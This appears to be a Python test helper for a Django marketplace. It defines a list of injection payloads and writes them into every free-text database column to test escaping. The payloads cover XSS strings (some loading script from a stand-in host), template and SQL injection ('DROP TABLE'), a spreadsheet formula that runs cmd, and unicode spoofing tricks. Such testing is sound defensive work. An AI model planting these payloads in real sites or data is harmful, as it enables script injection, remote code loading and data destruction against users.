"""What an evil or careless hand might write into any text of the shop, and a hand that writes it into all of them at once."""

from collections.abc import Iterator
from itertools import count
from typing import Any

from django.apps import apps
from django.db import IntegrityError, models, transaction

MARK = "zqx"
"""Stands in every payload: as a call in what runs, as a name in what breaks out of an attribute."""

PAYLOADS = [
    # elements
    "<script>zqx()</script>", "<ScRiPt src=//zqx.example/a.js></sCrIpT>", "<img src=zqx onerror=zqx()>", "<svg onload=zqx()>",
    "<svg><script>zqx()</script></svg>", "<svg><a xlink:href='javascript:zqx()'>x</a></svg>", "<math href=javascript:zqx()>",
    "<iframe src=javascript:zqx()>", "<object data=//zqx.example>", "<embed src=//zqx.example>", "<body onload=zqx()>",
    "<details open ontoggle=zqx()>", "<input autofocus onfocus=zqx()>", "<style>@import '//zqx.example'</style>",
    "<link rel=stylesheet href=//zqx.example>", "<base href=//zqx.example/>",
    "<meta http-equiv=refresh content='0;//zqx.example'>", "<form action=//zqx.example><button>zqx",
    "<a href=javascript:zqx()>zqx</a>", "<a href='&#106;avascript:zqx()'>zqx</a>", "<a href='java\tscript:zqx()'>zqx</a>",
    "<a href='data:text/html,<script>zqx()</script>'>", "<template><img src=zqx onerror=zqx()>",
    "<noscript><p title='</noscript><img src=zqx onerror=zqx()>'>", "<!--><script>zqx()</script>-->",
    "<![CDATA[<script>zqx()]]>", "<<script>zqx()//<</script>", "<script>zqx()", "<plaintext>zqx",
    # out of an attribute, a title, a script, a comment
    '" zqx="1', "' zqx='1", "` zqx=`1", '"><script>zqx()</script>', "'><img src=zqx onerror=zqx()>",
    '" onmouseover="zqx()" x="', "</title><script>zqx()</script>", "</textarea><script>zqx()</script>",
    "</script><script>zqx()</script>", "--><script>zqx()</script>", '"}</script><script>zqx()</script>', "\\\"};zqx();//",
    "';zqx();//", "]]><zqx/>",
    # templates, formats, queries
    "zqx{{7*7}}zqx", "zqx{% now 'Y' %}{% debug %}", "zqx${7*7}zqx", "zqx#{7*7}zqx", "zqx<%= 7*7 %>zqx",
    "zqx%(name)s%s%d%n{0}{x}", "&lt;script&gt;zqx()&lt;/script&gt;", "=zqx()+cmd|' /C calc'!A0", "'; DROP TABLE zqx; --",
    "javascript:zqx()//",
    # scripts of the world and their tricks
    "\u202etxt.exe zqx\u202c", "\u2066zqx\u2069\u200f", "zqx\u2028alert\u2029x", "zqx\u200b\u200c\u200d\ufeff", "zqx\u0000x",
    "😀👩‍👩‍👧‍👦🇮🇳 zqx", "Z\u0351\u0341\u0321\u0316a\u0358\u0348\u0349l\u0303g\u0348o zqx", "कषत्रियज्ञश्रङ्ख zqx",
    "zqx" + "W" * 60, "q" * 250, "क" * 120,
]  # fmt: skip

# What is no free text: keys and codes that other tables and files are found by.
CODES = {
    "language_code", "currency_code", "default_country", "country_of_origin", "password", "email", "sha256", "key", "upload_key",
    "file_key", "colour", "format", "kind", "subject", "state", "lgd_code", "goods_category", "password_mark", "audience",
    "refusal", "fssai_licence_no", "iso_old", "country",
}  # fmt: skip
_turns = count()


def texts() -> Iterator[tuple[type[models.Model], Any]]:
    """Every column of free text, with its model."""
    for model in apps.get_models():
        if model._meta.app_label in {"marketplace", "catalog"}:
            for column in model._meta.concrete_fields:
                if _is_free(column):
                    yield model, column


def _is_free(column: Any) -> bool:
    if isinstance(column, models.JSONField):
        return True
    is_text = isinstance(column, (models.CharField, models.TextField)) and not isinstance(column, models.SlugField)
    long_enough = column.max_length is None or column.max_length > 11 if is_text else False
    return is_text and long_enough and not column.choices and not column.unique and column.name not in CODES


def plant() -> set[str]:
    """Write payloads into every text of every row, others each time; the names of the columns that refused them all."""
    refusing = set()
    for model, column in texts():
        for row in model._default_manager.order_by("pk"):
            if not _written(model, column, row):
                refusing.add(f"{model.__name__}.{column.name}")
    return refusing


def _written(model: type[models.Model], column: Any, row: models.Model) -> bool:
    before = getattr(row, column.name)
    if before in ("", None, [], {}) and column.name in {"url", "unit", "rich_text", "plain_text"}:
        return True  # one of several columns, of which this kind of row has another
    for _try in range(3):
        try:
            with transaction.atomic():
                model._default_manager.filter(pk=row.pk).update(**{column.name: _value(column, before)})
            return True
        except (IntegrityError, ValueError):
            continue
    return False


def _value(column: Any, before: Any) -> Any:
    """Payloads in the shape of what was there."""
    if isinstance(column, models.JSONField):
        if isinstance(before, dict) and "blocks" in before:
            return rich()
        return {_next(40): _next(200)} if isinstance(before, dict) else before
    if column.name == "url":
        return _next(40, "javascript:zqx()//", "JaVaScRiPt:zqx()//", " javascript:zqx()", "data:text/html,zqx", "vbscript:zqx")
    return "\n\n".join(storable(text) for text in PAYLOADS) if column.max_length is None else _next(column.max_length)


def rich() -> dict[str, Any]:
    """Blocks that an editor of ours would never have written, every payload in each place of theirs."""
    blocks: list[dict[str, Any]] = [{"type": _next(40), "data": {"text": _next(200), "html": "<script>zqx()</script>"}}]
    for text in map(storable, PAYLOADS):
        blocks += [
            {"type": "paragraph", "data": {"text": text}},
            {"type": "list", "data": {"style": "unordered", "items": [text]}},
            {"type": "header", "data": {"level": 2, "text": text}},
        ]
    return {"blocks": blocks}


def _next(most: int, *among: str) -> str:
    """The next payloads, as many as there is room for."""
    chosen = among or [text for text in PAYLOADS if len(text) <= most]
    text = storable(chosen[next(_turns) % len(chosen)])
    while not among and len(longer := f"{text} {storable(chosen[next(_turns) % len(chosen)])}") <= most:
        text = longer
    return text[:most]


def storable(text: str) -> str:
    """PostgreSQL keeps no NUL."""
    return text.replace("\x00", "")
